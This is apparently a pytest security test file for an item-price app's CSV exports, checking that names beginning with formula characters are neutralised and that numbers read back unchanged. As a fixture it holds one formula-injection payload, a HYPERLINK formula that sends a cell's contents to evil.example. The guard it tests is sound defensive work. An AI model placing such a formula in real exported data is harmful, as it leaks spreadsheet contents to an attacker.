"""Files for spreadsheets: no cell runs, numbers stay numbers, and our own readers read them back."""

import csv
import io
from collections import defaultdict
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import psycopg
import pytest
from flask.testing import FlaskClient
from hypothesis import given
from hypothesis import strategies as st

from app.providers.base import Batch, Quote, VolumeKind
from app.runtime import Runtime
from app.spreadsheet import RUNS, Cell, csv_text, unguard
from db.embedded.servers import Endpoints
from jobs.ingest import Ingest, Report
from pages.items import as_csv, read
from tests.commands.support import run
from tests.security.conftest import CALLBACKS, token_of

EVIL = '=HYPERLINK("https://evil.example/?x="&A1,"★ price")'
NOW = datetime.now(UTC)


def quotes(name: str) -> list[Quote]:
    return [
        Quote(name, "steam", 1000 + hour, NOW - timedelta(hours=hour), volume=1, volume_kind=VolumeKind.INTERVAL)
        for hour in range(30)
    ]


@pytest.fixture
def evil(runtime: Runtime) -> Runtime:
    """An instance that has an item whose name is a formula."""
    services = runtime.services
    ingest = Ingest(services.database, services.redis, heartbeat=timedelta(0))
    ingest.store("steam", Batch(quotes(EVIL)), Report("steam", NOW))
    return runtime


def records(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.slow
def test_export_guards_names_and_backfill_takes_the_guard_off(
    tmp_path: Path, evil: Runtime, endpoints: Endpoints
) -> None:
    settings = {"TRACERA_DATABASE_URL": evil.database_url, "TRACERA_REDIS_URL": endpoints.redis_url}
    shown = run(tmp_path, "export", EVIL, **settings)
    assert shown.returncode == 0, shown.stderr
    assert {row["market_hash_name"] for row in records(shown.stdout)} == {f"'{EVIL}"}
    assert not shown.stdout.startswith("\ufeff"), "a pipe gets no mark"
    file = tmp_path / "history.csv"
    assert run(tmp_path, "export", EVIL, "--output", str(file), **settings).returncode == 0
    taken = run(tmp_path, "backfill", str(file), "--source", "steam", **settings)
    assert "1 items: 0 new, 30 known, 0 contradicting (0 replaced), 0 rejected" in taken.stdout, (
        taken.stdout + taken.stderr
    )
    with psycopg.connect(evil.database_url) as connection:
        assert connection.execute("SELECT market_hash_name FROM items").fetchall() == [(EVIL,)]


def test_the_items_page_downloads_names_that_do_not_run(client: FlaskClient, evil: Runtime) -> None:
    del evil
    call = {
        "output": "items-download.data",
        "outputs": {"id": "items-download", "property": "data"},
        "inputs": [{"id": "items-csv", "property": "n_clicks", "value": 1}],
        "state": [
            {"id": "items-query", "property": "data", "value": read({})},
            {"id": "items-columns", "property": "value", "value": ["price"]},
        ],
        "changedPropIds": ["items-csv.n_clicks"],
    }
    reply = client.post(CALLBACKS, json=call, headers={"X-CSRFToken": token_of(client)})
    assert reply.status_code == 200, reply.text
    text: str = reply.get_json()["response"]["items-download"]["data"]["content"]
    assert text.startswith("\ufeff"), "spreadsheets know UTF-8 by its mark"
    (row,) = records(text.removeprefix("\ufeff"))
    assert row == {"Item": f"'{EVIL}", "Price": "10.0", "Currency": "USD"}


def test_negative_figures_stay_figures() -> None:
    row: dict[str, Any] = defaultdict(lambda: None, name="-5", percent_change=-0.25)
    (line,) = records(as_csv([row], ["percent_change"], "24h").removeprefix("\ufeff"))
    assert (line["Item"], line["Change 24h (%)"]) == ("'-5", "-0.25")


cells = st.none() | st.text() | st.sampled_from([EVIL, "-2", "\uff1d1", "a,b", 'a"b', "a;=b", "'", "''="])
numbers = st.integers() | st.floats(allow_nan=False, allow_infinity=False) | st.decimals(-1000, 1000, places=3)


@given(st.lists(st.tuples(cells, numbers), min_size=1), st.booleans())
def test_what_is_written_reads_back_and_never_runs(rows: list[tuple[str | None, Any]], mark: bool) -> None:  # noqa: FBT001
    table: list[tuple[Cell, ...]] = [*rows]
    text = csv_text(table, mark=mark)
    assert text.startswith("\ufeff") or not mark
    lines = list(csv.reader(io.StringIO(text[1:] if mark else text, newline=""), strict=True))
    for (name, number), (written, figure) in zip(rows, lines, strict=True):
        assert written[:1] not in set(RUNS)
        assert unguard(written) == (name or "")
        assert type(number)(Decimal(figure)) == number
